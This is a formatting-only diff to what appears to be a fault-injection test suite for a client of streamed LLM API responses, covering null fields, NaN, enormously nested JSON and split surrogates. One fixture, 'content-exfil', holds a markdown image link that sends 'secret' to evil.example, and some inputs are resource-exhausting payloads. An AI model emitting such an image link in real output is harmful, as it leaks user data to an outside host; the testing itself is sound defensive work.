@@ -45,7 +45,9 @@ def instead(name: str, deltas: Any, text: str, **more: Any) -> None:
     """A stream of these deltas, and the text that should come of it."""
 
     async def play(turn: Turn) -> None:
-        await stream(turn, *turn.family.starts(), *(turn.family.delta(d) for d in deltas), *ends(turn))
+        await stream(
+            turn, *turn.family.starts(), *(turn.family.delta(d) for d in deltas), *ends(turn)
+        )
 
     fault(Expected(text), name=name, **more)(play)
 
@@ -69,12 +71,20 @@ inside("content-empty", lambda turn: turn.family.delta(""), WHOLE)
 inside("nulls-openai", {"choices": [{"delta": None, "index": None}], "usage": None}, WHOLE)
 inside("nulls-anthropic", {"type": "content_block_delta", "index": None, "delta": None}, WHOLE)
 inside("nulls-gemini", {"candidates": [{"content": {"parts": None}}], "usageMetadata": None}, WHOLE)
-inside("wrong-shapes", {"choices": 7, "candidates": "x", "type": 3, "error": None, "usage": []}, WHOLE)
+inside(
+    "wrong-shapes", {"choices": 7, "candidates": "x", "type": 3, "error": None, "usage": []}, WHOLE
+)
 inside("json-nan", lambda turn: b'data: {"odd": NaN, "far": Infinity, "usage": null}\n\n', WHOLE)
 inside("json-bigint", lambda turn: b'data: {"n": %b}\n\n' % (b"9" * 5000), broken(UNREADABLE))
 inside("json-bigfloat", lambda turn: b'data: {"n": 1e99999}\n\n', WHOLE)
-inside("json-dup-keys", lambda turn: b'data: {"a": 1, "a": 2, "choices": [], "choices": []}\n\n', WHOLE)
-inside("json-deep", lambda turn: b"data: " + b"[" * 100_000 + b"]" * 100_000 + b"\n\n", broken(UNREADABLE))
+inside(
+    "json-dup-keys", lambda turn: b'data: {"a": 1, "a": 2, "choices": [], "choices": []}\n\n', WHOLE
+)
+inside(
+    "json-deep",
+    lambda turn: b"data: " + b"[" * 100_000 + b"]" * 100_000 + b"\n\n",
+    broken(UNREADABLE),
+)
 inside(
     "json-deep-object",
     lambda turn: b"data: " + b'{"a":' * 200_000 + b"1" + b"}" * 200_000 + b"\n\n",
@@ -82,7 +92,10 @@ inside(
 )
 inside(
     "usage-absurd",
-    {"usage": {"prompt_tokens": -1, "completion_tokens": 1e300, "total_tokens": "many"}, "choices": []},
+    {
+        "usage": {"prompt_tokens": -1, "completion_tokens": 1e300, "total_tokens": "many"},
+        "choices": [],
+    },
     WHOLE,
 )
 inside("ping-in-words", lambda turn: b"event: ping\ndata: still here\n\n", WHOLE)
@@ -102,7 +115,11 @@ instead("surrogate-escape-split", ["a\ud83d", "\ude42z"], "a🙂z")
 instead("surrogate-escape-split-in-three", ["a", "\ud83d", "\ude42", "z"], "a🙂z")
 instead("content-nul", ["a\x00b"], "a\x00b")
 instead("content-ansi", ["\x1b[31mred\x1b[0m"], "\x1b[31mred\x1b[0m")
-instead("content-exfil", ["![x](https://evil.example/?q=secret)"], "![x](https://evil.example/?q=secret)")
+instead(
+    "content-exfil",
+    ["![x](https://evil.example/?q=secret)"],
+    "![x](https://evil.example/?q=secret)",
+)
 instead("ok-separators", ["a\u2028b\u0085c\x0bd\x1ce"], "a\u2028b\u0085c\x0bd\x1ce")
 instead("ok-done-in-text", ["[DONE]", "data: [DONE]\n\n"], "[DONE]data: [DONE]\n\n")
 instead("ok-crlf-in-text", ["a\r\nb\rc\n\nd"], "a\r\nb\rc\n\nd")
@@ -142,7 +159,9 @@ async def ended(turn: Turn, reason: str) -> None:
     if turn.unary:
         await turn.json(turn.family.whole(TEXT, reason))
     else:
-        await stream(turn, *turn.family.starts(), *map(turn.family.delta, WORDS), *ends(turn, reason))
+        await stream(
+            turn, *turn.family.starts(), *map(turn.family.delta, WORDS), *ends(turn, reason)
+        )
 
 
 @fault(Expected(ANY, under=12.0), both=True)
@@ -189,7 +208,9 @@ endless("endless-html", b"<html>" + b"x" * BLOCK, "nothing", start=False)
 # --- compressed, though nobody asked ------------------------------------------------------------
 
 
-def zipped(name: str, encoding: str, pack: Any, expected: Expected, unary: Expected | None = None) -> None:
+def zipped(
+    name: str, encoding: str, pack: Any, expected: Expected, unary: Expected | None = None
+) -> None:
     async def play(turn: Turn) -> None:
         data = pack(b"".join(turn.pieces()))
         await turn.head(200, f"Content-Encoding: {encoding}")
